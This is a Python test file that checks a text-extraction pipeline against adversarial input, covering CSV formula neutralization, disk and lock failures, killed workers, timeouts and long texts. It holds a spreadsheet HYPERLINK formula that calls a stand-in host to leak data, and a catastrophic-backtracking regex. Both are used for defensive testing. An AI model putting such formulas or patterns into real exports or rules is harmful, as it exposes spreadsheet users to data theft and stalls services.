"""Adversarial input through a whole run (issue 20): no blow-up, nothing lost or mixed, one-line errors.

Each test is one shape an adversarial user tried, made small; `make fuzz`
runs the same shapes at full size, timed, in a generated folder. The
cleaning stage's own shapes are in tests/clean/test_hostile_input.py.
"""
from __future__ import annotations

import errno
import fcntl
import os
import shutil
import signal
import time
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from spacy.language import Language
from typer.testing import CliRunner

import extract
from extract import nlp as nlp_module
from extract import pipeline, write
from extract import rules as rules_module
from extract.cells import FORMULA_STARTS, csv_text, read_csv_text
from extract.changes import compare_folders
from extract.cli import app
from extract.evaluate.pairing import load_tables
from extract.pipeline import run
from extract.review.tables import read_table
from extract.tables import SENTENCE_CONTEXT_CHARS, SENTENCE_MAX_CHARS, doc_rows

from .conftest import RAW, RULES, refuse_to_read

GOOD = "nato-relations-with-iraq"
runner = CliRunner()


def raw_folder(tmp_path: Path, files: dict[str, bytes | str], name: str = "raw") -> Path:
    """A RAW folder holding one good text and the given files."""
    raw = tmp_path / name
    raw.mkdir()
    shutil.copy(RAW / f"{GOOD}.txt", raw / f"{GOOD}.txt")
    for relative, data in files.items():
        path = raw / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            path.write_text(data, encoding="utf-8")
        else:
            path.write_bytes(data)
    return raw


def table(out: Path, name: str) -> pd.DataFrame:
    return pd.read_csv(out / f"{name}.csv", dtype=str, keep_default_na=False)


# ---------------------------------------------------------------- rows stay small


def test_a_sentence_longer_than_the_limit_is_a_window_around_the_span(nlp):
    """`1, 1, 1, ...` x 25,000 wrote each 75 KB line once per entity: 1.9 GB of CSV."""
    text = "The fund paid " + ", ".join(["$1 million"] * 300) + " in 2020."
    doc = nlp(extract.make_doc(nlp, text))
    rows = doc_rows(doc, "long")
    assert len(rows["money"]) == 300
    for row in rows["money"] + rows["entities"]:
        assert text[row["char_start"] : row["char_end"]] == row["text"]
        assert row["text"] in row["sentence"]
        assert len(row["sentence"]) <= len(row["text"]) + 2 * SENTENCE_CONTEXT_CHARS + 4
    middle = rows["money"][150]["sentence"]
    assert middle.startswith("… ") and middle.endswith(" …")
    assert middle[2:-2] in text
    assert rows["money"][0]["sentence"].startswith("The fund paid $1 million, ")  # not cut where the sentence starts


def test_a_sentence_within_the_limit_is_kept_whole(nlp):
    text = "In 2020 the fund paid " + ", ".join(["$1 million"] * 20) + " to the army."
    assert len(text) <= SENTENCE_MAX_CHARS
    rows = doc_rows(nlp(extract.make_doc(nlp, text)), "short")
    assert {row["sentence"] for row in rows["money"]} == {text}


# ---------------------------------------------------------------- spreadsheets run no cell


FORMULA = '=HYPERLINK("http://x.example/?leak","click")'


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=1", "''+x", "'plain", "plain", "", "a=b"],
)
def test_csv_text_reads_back_exactly(text):
    cell = csv_text(text)
    assert cell is not None and read_csv_text(cell) == text
    assert not cell.startswith(FORMULA_STARTS)


def test_csv_cells_that_start_like_a_formula_are_neutralized_and_parquet_keeps_them(tmp_path):
    raw = raw_folder(tmp_path, {"-report.txt": f"{FORMULA}\n\nThe fund paid $5 million in 2020.\n"})
    out = tmp_path / "out"
    run(raw, out, RULES, cache=False)
    documents = table(out, "documents").set_index("path")
    assert documents.loc["'-report.txt"].title == f"'{FORMULA}"
    assert documents.loc["'-report.txt"].doc_id == "'-report"
    exact = pq.read_table(out / "documents.parquet").to_pandas().set_index("path")
    assert exact.loc["-report.txt"].title == FORMULA and exact.loc["-report.txt"].doc_id == "-report"
    assert "-report" in load_tables(out).clean  # the evaluation reads the exact doc_id back
    review = read_table(out / "documents.csv", "documents")
    assert FORMULA in {row[review.columns.index("title")] for row in review.rows}  # so does the review page


def test_the_changes_table_holds_the_exact_text_once(tmp_path):
    """Changes are read from the CSV files: a neutralized cell must not be neutralized twice."""
    raw = raw_folder(tmp_path, {"-report.txt": f"{FORMULA}\n\nThe fund paid $5 million in 2020.\n"})
    run(raw, tmp_path / "before", RULES, cache=False)
    (raw / "-report.txt").write_text(f"{FORMULA} again\n\nThe fund paid $5 million in 2020.\n", encoding="utf-8")
    run(raw, tmp_path / "after", RULES, cache=False)
    changed = [row for row in compare_folders(tmp_path / "before", tmp_path / "after").rows if row["table"] == "documents"]
    assert [(row["doc_id"], row["before"], row["after"]) for row in changed] == [
        ("-report", f"title={FORMULA}", f"title={FORMULA} again")
    ]


# ---------------------------------------------------------------- OUT: one-line errors, exit 2, nothing half written


def run_cli(raw: Path, out: Path, *extra: str, rules: Path = RULES):
    return runner.invoke(app, ["run", str(raw), "--out", str(out), "--rules", str(rules), "-q", *extra])


def test_out_being_a_file_is_a_one_line_error(tmp_path):
    raw = raw_folder(tmp_path, {})
    (tmp_path / "out").write_text("not a folder")
    result = run_cli(raw, tmp_path / "out")
    assert result.exit_code == 2 and "is a file, not a folder" in result.output
    assert "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1


def test_out_not_writable_is_a_one_line_error(tmp_path):
    raw = raw_folder(tmp_path, {})
    result = run_cli(raw, Path("/proc/extract-out"))  # no one may make a folder there, not even root
    assert result.exit_code == 2 and "cannot write the tables there" in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_a_file_where_the_cache_goes_is_a_one_line_error(tmp_path):
    raw = raw_folder(tmp_path, {})
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / ".cache").write_text("in the way")
    result = run_cli(raw, tmp_path / "out")
    assert result.exit_code == 2 and "--no-cache" in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_a_full_disk_is_a_one_line_error_and_leaves_no_temporary_file(tmp_path, monkeypatch):
    raw = raw_folder(tmp_path, {})
    run(raw, tmp_path / "out", RULES)
    before = (tmp_path / "out" / "money.csv").read_bytes()

    def full(self, name):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(write.TableWriter, "flush", full)
    result = run_cli(raw, tmp_path / "out")
    assert result.exit_code == 2 and "No space left on device" in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert (tmp_path / "out" / "money.csv").read_bytes() == before
    assert not list((tmp_path / "out").glob(".*.tmp"))


# ---------------------------------------------------------------- data lost or mixed


def test_out_is_raw_with_a_clean_folder_of_real_files_is_refused(tmp_path):
    """`--out RAW` skipped RAW/clean/memo.txt and overwrote it with a cleaned text."""
    raw = raw_folder(tmp_path, {"clean/memo.txt": "Memo\n\nThe fund paid $5 million in 2020.\n"})
    result = run_cli(raw, raw)
    assert result.exit_code == 2 and "no extract run wrote" in result.output
    assert (raw / "clean" / "memo.txt").read_text(encoding="utf-8") == "Memo\n\nThe fund paid $5 million in 2020.\n"


def test_an_empty_raw_keeps_tables_that_hold_rows_unless_forced(tmp_path):
    """An empty RAW run into an existing OUT replaced 2,806 money rows with empty tables."""
    out = tmp_path / "out"
    run(raw_folder(tmp_path, {}), out, RULES)
    before = (out / "money.csv").read_bytes()
    (tmp_path / "empty").mkdir()
    result = run_cli(tmp_path / "empty", out)
    assert result.exit_code == 2 and "--force" in result.output
    assert (out / "money.csv").read_bytes() == before
    assert run_cli(tmp_path / "empty", out, "--force").exit_code == 0
    assert len(table(out, "money")) == 0 and len(table(out, "documents")) == 0


def test_files_that_share_a_name_get_their_own_doc_id_and_clean_text(tmp_path):
    """`report.txt` and `report.md`: two documents rows with doc_id `report`, one cleaned text."""
    raw = raw_folder(tmp_path, {
        "report.txt": "Report\n\nThe fund paid $5 million in 2020.\n",
        "report.md": "Report\n\nA long first paragraph of the other report comes here.\n\nThe army got $7 billion in 2021.\n",
    })
    run(raw, tmp_path / "out", RULES)
    documents = table(tmp_path / "out", "documents").set_index("doc_id")
    assert documents.loc["report.txt"].path == "report.txt" and documents.loc["report.md"].path == "report.md"
    assert documents.index.is_unique
    money = table(tmp_path / "out", "money")
    assert sorted(money[money.doc_id.str.startswith("report")].text) == ["$5 million", "$7 billion"]
    assert offsets_hold(tmp_path / "out")


def offsets_hold(out: Path) -> bool:
    """Whether every kept row still points at its text in the cleaned texts."""
    for name in ("entities", "money", "dates", "programs"):
        for row in table(out, name).itertuples():
            clean = (out / "clean" / f"{row.doc_id}.txt").read_text(encoding="utf-8")
            if clean[int(row.char_start) : int(row.char_end)] != row.text:
                return False
    return True


def test_an_interrupted_run_leaves_the_clean_texts_of_the_kept_tables(tmp_path):
    """Ctrl-C kept the old tables but had already rewritten clean/: offsets pointed at other text."""
    raw = raw_folder(tmp_path, {"a.txt": "Aid\n\nThe fund paid $5 million in 2020.\n"})
    out = tmp_path / "out"
    run(raw, out, RULES)
    (raw / "a.txt").write_text("Aid\n\nA new first paragraph moves every offset.\n\nThe fund paid $5 million in 2020.\n")

    def interrupt(name: str) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run(raw, out, RULES, on_document=interrupt)
    assert offsets_hold(out)
    assert not [p for p in out.iterdir() if p.name.startswith(".") and p.name not in (".cache", ".lock")]


def test_sigterm_ends_a_run_like_ctrl_c(tmp_path):
    raw = raw_folder(tmp_path, {"a.txt": "Aid\n\nThe fund paid $5 million in 2020.\n"})
    out = tmp_path / "out"
    run(raw, out, RULES)
    before = (out / "money.csv").read_bytes()
    with pytest.raises(KeyboardInterrupt):
        run(raw, out, RULES, on_document=lambda name: os.kill(os.getpid(), signal.SIGTERM))
    assert (out / "money.csv").read_bytes() == before
    assert not list(out.glob(".*.tmp")) and not list(out.glob(".staging.*"))


def test_what_killed_runs_left_is_removed_by_the_next_run(tmp_path):
    """SIGKILL and a full disk left temporary files that later runs never removed."""
    out = tmp_path / "out"
    run(raw_folder(tmp_path, {}), out, RULES)
    leftovers = [
        out / ".money.csv.999999.tmp", out / ".staging.999999" / "clean" / "a.txt", out / "clean" / ".a.txt.999999.tmp",
        out / ".cache" / "docs" / "0123" / "ab" / ".ab12.spacy.999999.tmp",
    ]
    for path in leftovers:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("half")
    run(tmp_path / "raw", out, RULES)
    assert not any(path.exists() for path in leftovers) and not (out / ".staging.999999").exists()


def test_a_second_run_into_the_same_out_is_refused_while_the_first_holds_it(tmp_path):
    """Two runs into one OUT both exited 0 with clean/ mixed."""
    raw = raw_folder(tmp_path, {})
    out = tmp_path / "out"
    out.mkdir()
    with (out / ".lock").open("a+") as held:
        fcntl.flock(held, fcntl.LOCK_EX | fcntl.LOCK_NB)
        held.write("4242\n")
        held.flush()
        result = run_cli(raw, out)
    assert result.exit_code == 2 and "another extract run (process 4242)" in result.output
    assert not (out / "documents.csv").exists()


def test_broken_links_link_loops_and_unreadable_folders_are_reported(tmp_path, monkeypatch):
    """They got no documents row and no message."""
    raw = raw_folder(tmp_path, {"closed/secret.txt": "Secret\n\nThe fund paid $5 million.\n"})
    (raw / "gone.txt").symlink_to(raw / "nowhere.txt")
    (raw / "loop").mkdir()
    (raw / "loop" / "back").symlink_to(raw, target_is_directory=True)
    refuse_to_read(monkeypatch, "closed")
    result = runner.invoke(app, ["run", str(raw), "--out", str(tmp_path / "out"), "--rules", str(RULES)])
    assert result.exit_code == 1, result.output
    documents = table(tmp_path / "out", "documents").set_index("doc_id")
    assert documents.loc["gone"].status == "error" and "broken symbolic link" in documents.loc["gone"].error
    assert documents.loc[GOOD].status == "ok" and len(documents) == 2  # the loop read once, the closed folder not at all
    assert "closed: cannot read this folder (Permission denied)" in result.output
    assert "loop/back: a symbolic link back to a folder already read" in result.output


# ---------------------------------------------------------------- workers and time limits


def clean_then(monkeypatch, doc_id: str, action) -> None:
    """Do `action` when the pipeline cleans the document `doc_id` (in whichever process cleans it)."""
    cleaner = pipeline.clean_document

    def cleaning(raw, *args, **kwargs):
        if raw.doc_id == doc_id:
            action()
        return cleaner(raw, *args, **kwargs)

    monkeypatch.setattr(pipeline, "clean_document", cleaning)


def many(count: int) -> dict[str, str]:
    return {f"doc-{i:02}.txt": f"Aid {i}\n\nThe fund paid ${i + 1} million in 2020.\n" for i in range(count)}


def test_a_worker_killed_on_a_document_fails_that_document_only(tmp_path, monkeypatch):
    """kill -9 on a worker left the main process waiting for ever."""
    raw = raw_folder(tmp_path, {**many(20), "killer.txt": "Killer\n\nThe fund paid $9 million in 2020.\n"})
    clean_then(monkeypatch, "killer", lambda: os.kill(os.getpid(), signal.SIGKILL))
    summary = run(raw, tmp_path / "out", RULES, workers=2, cache=False)
    documents = table(tmp_path / "out", "documents").set_index("doc_id")
    assert documents.loc["killer"].status == "error" and "worker process died" in documents.loc["killer"].error
    assert (documents.drop("killer").status == "ok").all() and len(documents) == 22
    assert (summary.ok, summary.failed) == (21, 1)
    assert len(table(tmp_path / "out", "money")) >= 20 and offsets_hold(tmp_path / "out")


def test_a_document_over_the_time_limit_fails_alone(tmp_path, monkeypatch):
    raw = raw_folder(tmp_path, {**many(3), "slow.txt": "Slow\n\nThe fund paid $9 million in 2020.\n"})
    clean_then(monkeypatch, "slow", lambda: time.sleep(600))
    summary = run(raw, tmp_path / "out", RULES, workers=1, cache=False, doc_timeout=5)
    documents = table(tmp_path / "out", "documents").set_index("doc_id")
    assert documents.loc["slow"].status == "error" and "took over 5 s (--doc-timeout)" in documents.loc["slow"].error
    assert (summary.ok, summary.failed) == (4, 1)


def test_a_pattern_that_runs_away_fails_its_document_alone(tmp_path, monkeypatch):
    """`^(a|aa)+$` passes the load-time check; on a long run of a's it backtracks for ever (the run
    never ended). Rule patterns are searched with a timeout: the document fails with a clear message."""
    monkeypatch.setattr(rules_module, "RULE_SECONDS", 0.5)
    rules = tmp_path / "rules"
    shutil.copytree(RULES, rules)
    cleaning = rules / "cleaning.yml"
    cleaning.write_text(
        cleaning.read_text(encoding="utf-8").replace("lines:\n", 'lines:\n  - pattern: "^(a|aa)+$"\n    why: runs away\n', 1),
        encoding="utf-8",
    )
    raw = raw_folder(tmp_path, {"trap.txt": "Trap\n\nThe fund paid $5 million.\n" + "a" * 60 + "!\n"})
    summary = run(raw, tmp_path / "out", rules, workers=1, cache=False)
    documents = table(tmp_path / "out", "documents").set_index("doc_id")
    assert documents.loc["trap"].status == "error"
    assert documents.loc["trap"].error == (
        "trap.txt: rule pattern '^(a|aa)+$' ran over 0.5 s on one line of 61 characters: it backtracks without end "
        "there; make each part match one way only (e.g. (a|aa)+ -> a+)"
    )
    assert documents.loc[GOOD].status == "ok" and (summary.ok, summary.failed) == (1, 1)


def test_a_document_stuck_where_no_alarm_reaches_is_killed(tmp_path, monkeypatch):
    """The alarm of --doc-timeout cannot stop code that blocks it (as C code can); the parent kills the worker."""

    def stuck():
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
        time.sleep(600)

    raw = raw_folder(tmp_path, {**many(2), "stuck.txt": "Stuck\n\nThe fund paid $9 million in 2020.\n"})
    clean_then(monkeypatch, "stuck", stuck)
    run(raw, tmp_path / "out", RULES, workers=2, cache=False, doc_timeout=2)
    documents = table(tmp_path / "out", "documents").set_index("doc_id")
    assert documents.loc["stuck"].status == "error" and "took over 2 s" in documents.loc["stuck"].error
    assert (documents.drop("stuck").status == "ok").all() and len(documents) == 4


# ---------------------------------------------------------------- long texts


def long_report(count: int) -> str:
    paragraphs = [f"In {2000 + i % 20} the fund paid ${i + 1} million to the border police of Iraq." for i in range(count)]
    return "Long report\n\n" + "\n\n".join(paragraphs) + "\n"


def test_a_text_longer_than_the_models_limit_goes_through_in_pieces(tmp_path, monkeypatch):
    """A 1.5 MB report failed with spaCy's E088; here the model's limit is made small instead."""
    loader = pipeline.load_pipeline

    def small_limit(rules_dir):
        nlp = loader(rules_dir)
        nlp.max_length = 3_000
        return nlp

    monkeypatch.setattr(pipeline, "load_pipeline", small_limit)
    raw = raw_folder(tmp_path, {"long.txt": long_report(120)})
    run(raw, tmp_path / "out", RULES, cache=False)
    documents = table(tmp_path / "out", "documents").set_index("doc_id")
    assert documents.loc["long"].status == "ok" and int(documents.loc["long"].chars_clean) > 2 * 3_000
    money = table(tmp_path / "out", "money")
    assert sorted(money[money.doc_id == "long"].text, key=lambda t: int(t[1:].split()[0])) == [
        f"${i + 1} million" for i in range(120)
    ]
    assert offsets_hold(tmp_path / "out")


def test_a_long_text_meets_the_model_one_piece_at_a_time(tmp_path, monkeypatch):
    """The parser and the entity recognizer hold about 16 KB a token while they work: a 60 KB line of
    `1, 1, 1, ...` took 900 MB whole. Here the piece size is made small; no text reaches the model longer."""
    monkeypatch.setattr(nlp_module, "PIECE_CHARS", 2_000)
    seen: list[int] = []
    pipe = Language.pipe

    def recording(self, texts, *args, **kwargs):
        for doc in pipe(self, texts, *args, **kwargs):
            seen.append(len(doc.text))
            yield doc

    monkeypatch.setattr(Language, "pipe", recording)
    raw = raw_folder(tmp_path, {"long.txt": long_report(120)})
    run(raw, tmp_path / "out", RULES)
    assert seen and max(seen) <= 2_000
    money = table(tmp_path / "out", "money")
    assert len(money[money.doc_id == "long"]) == 120 and offsets_hold(tmp_path / "out")
    first = (tmp_path / "out" / "money.csv").read_bytes()
    run(raw, tmp_path / "out", RULES)  # again, from the cache: the Doc made of pieces was stored whole
    assert (tmp_path / "out" / "money.csv").read_bytes() == first
